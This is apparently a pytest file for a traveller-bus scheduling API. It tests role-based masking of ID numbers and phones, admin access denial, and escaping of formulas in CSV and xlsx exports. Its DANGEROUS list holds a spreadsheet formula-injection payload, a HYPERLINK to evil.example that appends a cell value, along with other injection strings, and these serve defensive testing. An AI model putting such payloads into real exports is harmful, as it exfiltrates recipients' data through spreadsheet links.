"""Personal data only where it is needed: every route and format, for every role, shows a full ID number or
phone only to the dispatcher, the traveller's own township, and (phones) the factory the traveller is on the
way to. And exports never carry a live formula."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl

from tests.api.conftest import FACTORIES, TOWNSHIPS, Api

DAY = "2026-02-21"
ARRIVING = {"planned", "boarded"}


def _text(response: Any) -> str:
    """A response's body as text: xlsx files unzipped (every sheet's strings)."""
    assert response.status_code == 200, response.text
    if response.content[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(response.content)) as book:
            return " ".join(book.read(n).decode("utf-8") for n in book.namelist() if n.endswith(".xml"))
    return response.content.decode("utf-8-sig")


def _bodies(api: Api, who: str) -> list[str]:
    """Every response body ``who`` can fetch that may hold a traveller's personal data."""
    cookies = api.cookies(who)
    travellers = api.travellers(who)
    responses = [api.get("/travellers", who), api.get("/buses", who), api.get("/subsidies", who)]
    responses += [api.get(f"/travellers/{t['id']}", who) for t in travellers]
    for bus in api.get("/buses", who).json():
        responses.append(api.get(f"/buses/{bus['id']}", who))
        for fmt in ("json", "csv", "xlsx"):
            responses.append(api.get(f"/buses/{bus['id']}/manifest", who, params={"format": fmt}))
        responses.append(api.client.get(f"/app/buses/{bus['id']}/driver", cookies=cookies))
    responses.append(api.get("/subsidies", who, params={"format": "notice"}))
    if who == "dispatcher":
        responses.append(api.get("/subsidies", who, params={"format": "xlsx"}))
        responses.append(api.client.get("/app/dispatcher", cookies=cookies))
    elif who in TOWNSHIPS:
        responses.append(api.client.get("/app/township", cookies=cookies))
    else:
        responses.append(api.get(f"/factories/{who}/expected", who))
        responses.append(api.client.get("/app/factory", cookies=cookies))
    return [_text(r) for r in responses]


def test_every_route_and_format_shows_personal_data_by_role(api: Api) -> None:
    """For each role and each route and format, a full ID number appears only where the rule allows it (the
    dispatcher; the traveller's own township), and a full phone only there or at the factory the traveller is
    on the way to; the masked forms still let a reader tell people apart."""
    api.plan(DAY)
    people = api.travellers()
    assert people and all("*" not in t["id_number"] for t in people)
    arriving = next(t for t in people if t["status"] in ARRIVING)
    api.post("/arrivals", arriving["factory_id"], json={"traveller_id": arriving["id"]})
    people = api.travellers()
    for who in ("dispatcher", *TOWNSHIPS, *FACTORIES):
        bodies = " ".join(_bodies(api, who))
        for t in people:
            full_id = who == "dispatcher" or t["township_id"] == who
            full_phone = full_id or (t["factory_id"] == who and t["status"] in ARRIVING)
            assert (t["id_number"] in bodies) <= full_id, (who, t["ref"], "id_number")
            assert (t["phone"] in bodies) <= full_phone, (who, t["ref"], "phone")
    factory_view = api.travellers(arriving["factory_id"])
    assert factory_view and all(v["id_number"][6:-4].strip("*") == "" for v in factory_view)
    township_view = api.travellers(arriving["township_id"])
    assert township_view and all("*" not in v["id_number"] for v in township_view)


def test_the_county_admin_sees_no_traveller_and_the_audit_log_no_full_number(api: Api) -> None:
    """The admin's routes (audit log as JSON and xlsx, tokens, accounts, its page) hold no traveller's full ID
    number or phone after registrations, corrections, a published plan and an arrival; every traveller route
    answers the admin 403."""
    api.plan(DAY)
    first = api.travellers("360731100")[0]
    api.patch(f"/travellers/{first['id']}", "360731100", json={"phone": "13700000002"})
    arriving = next(t for t in api.travellers() if t["status"] in ARRIVING)
    api.post("/arrivals", arriving["factory_id"], json={"traveller_id": arriving["id"]})
    people = api.travellers()
    cookies = api.cookies("admin")
    responses = [
        api.get("/audit", "admin", params={"limit": 1000}),
        api.get("/audit", "admin", params={"format": "xlsx"}),
        api.get("/tokens", "admin"),
        api.get("/users", "admin"),
        api.client.get("/app/admin", cookies=cookies),
        api.client.get("/app/admin/audit.xlsx", cookies=cookies),
    ]
    bodies = " ".join(_text(r) for r in responses)
    assert '"travellers"' in bodies or "travellers" in bodies
    assert not [t["ref"] for t in people if t["id_number"] in bodies or t["phone"] in bodies]
    bus = api.get("/buses").json()[0]["id"]
    for path in ("/travellers", f"/travellers/{first['id']}", "/buses", f"/buses/{bus}/manifest", "/subsidies"):
        assert api.get(path, "admin").status_code == 403, path


def test_a_bus_names_only_the_callers_riders(api: Api) -> None:
    """A township or factory reading a bus finds only its own riders' ids on the stops; the dispatcher all."""
    api.plan(DAY)
    for bus in api.get("/buses").json():
        everyone = {i for s in bus["bus"]["stops"] for i in s["board"]}
        assert len(everyone) == bus["load"]
        for who in (*TOWNSHIPS, *FACTORIES):
            response = api.get(f"/buses/{bus['id']}", who)
            if response.status_code == 404:
                continue
            seen = response.json()
            named = {i for s in seen["bus"]["stops"] for i in s["board"] + s["alight"]}
            assert named == set(seen["traveller_refs"]) and named <= everyone
            mine = {str(t["id"]) for t in api.travellers(who) if t["bus_id"] == bus["id"]}
            assert named == mine


def test_duplicate_registration_says_only_that_it_is_a_duplicate(api: Api) -> None:
    """Registering another township's traveller again is 409 without saying where the first registration is."""
    other = api.by_ref("T003")
    body = {
        "name": "张三",
        "id_number": other["id_number"],
        "phone": "13800000099",
        "factory_id": other["factory_id"],
        "earliest_date": "2026-02-20",
        "report_date": "2026-02-25",
    }
    response = api.post("/travellers", "360731100", json=body)
    assert response.status_code == 409
    text = response.json()["detail"] + response.json()["detail_zh"]
    assert "twice" in text and other["township_id"] not in text and "township" not in text


DANGEROUS = ('=HYPERLINK("http://evil.example/?d="&C2,"点击领取补贴")', "+1+1", "-2+3", "@SUM(A1)", "\t=1")


def test_exports_never_carry_a_formula(api: Api) -> None:
    """A name starting with =, +, -, @ (or a tab) reaches the CSV and xlsx manifests as text with a leading
    apostrophe: no cell of any export is a formula."""
    # A tab is refused at registration (a control character), so it is tried only through the export function.
    from api.services.manifests import to_xlsx
    from scheduler.spreadsheet import table_csv

    for name in DANGEROUS[:-1]:
        t = api.travellers(status="registered")[0]
        assert api.patch(f"/travellers/{t['id']}", json={"name": name}).status_code == 200
    api.plan(DAY)
    named = [t for t in api.travellers() if t["name"] in DANGEROUS and t["bus_id"]]
    assert named
    for t in named:
        csv_text = api.get(f"/buses/{t['bus_id']}/manifest", params={"format": "csv"}).content.decode("utf-8-sig")
        assert "'" + t["name"] in csv_text.replace('""', '"')
        book = openpyxl.load_workbook(
            io.BytesIO(api.get(f"/buses/{t['bus_id']}/manifest", params={"format": "xlsx"}).content)
        )
        cells = [c for row in book.active.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        assert any(c.value == "'" + t["name"] for c in cells)
    rows = [{"name": n} for n in DANGEROUS]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(rows, "x", [("name", "name")]))).active
    assert [c.value for c in sheet["A"]][1:] == ["'" + n for n in DANGEROUS]
    assert all(
        line.startswith(("name", "'", "\"'"))
        for line in table_csv(rows, [("name", "name")]).decode("utf-8-sig").splitlines()
    )
